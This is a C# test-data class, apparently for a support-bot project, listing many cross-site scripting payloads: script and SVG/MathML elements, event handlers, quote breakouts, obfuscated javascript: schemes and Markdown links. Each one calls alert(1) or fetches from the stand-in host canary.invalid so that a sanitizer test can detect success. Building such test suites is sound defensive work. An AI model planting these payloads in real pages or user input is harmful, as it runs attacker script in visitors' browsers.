namespace SupportBot.Bot.Tests.Security;

/// <summary>
/// Texts that run script where they are taken for markup. Each calls <c>alert</c> or asks the host canary.invalid, so that a test sees when one has worked. Written
/// for this project after the public families of vectors: elements, attributes, broken out of quotes, schemes, spellings, parsers' own tricks.
/// </summary>
internal static class HostileTexts
{
    private const string Call = "alert(1)";
    private const string Canary = "https://canary.invalid/x";

    private static readonly string[] Elements =
    [
        $"<script>{Call}</script>", $"<script src={Canary}></script>", $"<ScRiPt>{Call}</sCrIpT>", $"<script\n>{Call}</script\n>", $"<script/x>{Call}</script>",
        $"<<script>{Call}//<</script>", $"<scr<script>ipt>{Call}</scr</script>ipt>", $"<script>{Call}", $"</script><script>{Call}</script>", $"<script type=module>{Call}</script>",
        $"<script xlink:href={Canary}></script>", $"<svg><script>{Call}</script></svg>", $"<svg><script href={Canary} /></svg>", $"<math><mtext><script>{Call}</script></mtext></math>",
        $"<iframe src=javascript:{Call}></iframe>", $"<iframe srcdoc='<script>{Call}</script>'></iframe>", $"<object data=javascript:{Call}></object>", $"<embed src=javascript:{Call}>",
        $"<base href={Canary}>", $"<meta http-equiv=refresh content='0;url=javascript:{Call}'>", $"<meta http-equiv=refresh content='0;url={Canary}'>",
        $"<link rel=stylesheet href={Canary}>", $"<link rel=import href={Canary}>", $"<style>@import '{Canary}';</style>", $"<style>*{{background:url({Canary})}}</style>",
        $"<form action=javascript:{Call}><button>x</button></form>", $"<isindex action=javascript:{Call} type=submit>", $"<button formaction=javascript:{Call}>x</button>",
        $"<template><script>{Call}</script></template>", $"<noscript><p title='</noscript><img src=x onerror={Call}>'></noscript>", $"<textarea></textarea><script>{Call}</script>",
        $"<title></title><img src=x onerror={Call}>", $"<xmp></xmp><img src=x onerror={Call}>", $"<plaintext><img src=x onerror={Call}>", $"<!--><script>{Call}</script>-->",
        $"<!--{"--!>"}<img src=x onerror={Call}>", $"<![CDATA[<img src=x onerror={Call}>]]>", $"<?xml version='1.0'?><img src=x onerror={Call}>", $"<portal src={Canary}></portal>",
        $"<img src={Canary}>", $"<img srcset={Canary}>", $"<picture><source srcset={Canary}></picture>", $"<video poster={Canary}></video>", $"<audio src={Canary}></audio>", $"<input type=image src={Canary}>",
        $"<table background={Canary}>", $"<body background={Canary}>", $"<svg><image href={Canary} /></svg>", $"<svg><use href={Canary}#a /></svg>", $"<svg><animate attributeName=href values=javascript:{Call} /></svg>",
        $"<svg><a><animate attributeName=href to=javascript:{Call} /><text>x</text></a></svg>", $"<svg><set attributeName=onmouseover to={Call} /></svg>",
        $"<math href=javascript:{Call}>x</math>", $"<mglyph><style><img src=x onerror={Call}></style></mglyph>", $"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={Call}>",
    ];

    private static readonly string[] Handlers =
    [
        "<img src=x {0}>", "<img/src=x/{0}>", "<svg {0}>", "<body {0}>", "<details open {0}>", "<input autofocus {0}>", "<select autofocus {0}></select>", "<video><source {0}></video>",
        "<audio src=x {0}>", "<marquee {0}>x</marquee>", "<a href=# {0}>x</a>", "<div style='animation:x' {0}>x</div>", "<object {0}></object>", "<x {0} tabindex=1>x</x>",
    ];

    private static readonly string[] Attributes =
    [
        $"onerror={Call}", $"onload={Call}", $"ontoggle={Call}", $"onfocus=\"{Call}\"", $"onmouseover='{Call}'", $"OnErRoR = {Call}",
    ];

    private static readonly string[] Quotes =
    [
        $"\" onmouseover=\"{Call}", $"' onmouseover='{Call}", $"\"><script>{Call}</script>", $"'><script>{Call}</script>", $"\" autofocus onfocus=\"{Call}\" x=\"", $"` onmouseover=`{Call}",
        $"\\\"><img src=x onerror={Call}>", $"&quot; onmouseover=&quot;{Call}", $"&#34;><img src=x onerror={Call}>", $"&lt;script&gt;{Call}&lt;/script&gt;", $"%3Cscript%3E{Call}%3C/script%3E",
        $"\u003cscript\u003e{Call}\u003c/script\u003e", "＜script＞alert(1)＜/script＞", $"</title><script>{Call}</script>", $"</textarea><script>{Call}</script>", $"--><script>{Call}</script>",
        $"]]><script>{Call}</script>", $"{{{{constructor.constructor('{Call}')()}}}}", $"${{{Call}}}", $"<%= {Call} %>", $"@{{{Call}}}", $"';{Call}//", $"\";{Call}//", $"</style><script>{Call}</script>",
        $"<img src=x onerror\u000B={Call}>", $"<img src=x onerror\t=\n{Call}>", $"<a\u00A0href=javascript:{Call}>x</a>", $"<IMG \"\"\"><SCRIPT>{Call}</SCRIPT>\">",
    ];

    private static readonly string[] Schemes =
    [
        "javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "java\nscript:", "javascript&colon;", "javascript&#58;", "&#106;avascript:", "\u0001javascript:", "javascript\u200B:",
        "vbscript:", "data:text/html,<script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#", "livescript:", "feed:javascript:", "view-source:javascript:", "blob:javascript:", "file:///",
    ];

    private static readonly string[] Links = ["[x]({0}alert(1))", "[x](<{0}alert(1)>)", "<{0}alert(1)>", "[x][1]\n\n[1]: {0}alert(1)", "![x]({0}alert(1))", "<a href=\"{0}alert(1)\">x</a>"];

    /// <summary>All of them.</summary>
    public static IReadOnlyList<string> All { get; } =
    [
        .. Elements,
        .. Handlers.SelectMany(static (handler, i) => Attributes.Where((_, j) => (i + j) % 2 == 0).Select(attribute => string.Format(System.Globalization.CultureInfo.InvariantCulture, handler, attribute))),
        .. Quotes,
        .. Markdown,
    ];

    /// <summary>Links by which Markdown would lead to script.</summary>
    public static IReadOnlyList<string> Markdown => [.. Schemes.SelectMany(static scheme => Links.Select(link => string.Format(System.Globalization.CultureInfo.InvariantCulture, link, scheme)))];
}
